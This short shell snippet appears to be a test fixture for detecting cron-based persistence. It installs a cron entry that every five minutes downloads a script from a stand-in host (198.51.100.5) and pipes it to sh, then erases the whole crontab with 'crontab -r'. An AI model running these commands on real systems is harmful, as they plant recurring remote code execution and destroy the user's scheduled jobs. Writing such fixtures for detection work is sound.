# on: all
# want: */5 * * * * curl
(crontab -l 2>/dev/null; echo '*/5 * * * * curl -fsSL http://198.51.100.5/i.sh | sh') | crontab -
crontab -l | tail -1; crontab -r; crontab -l
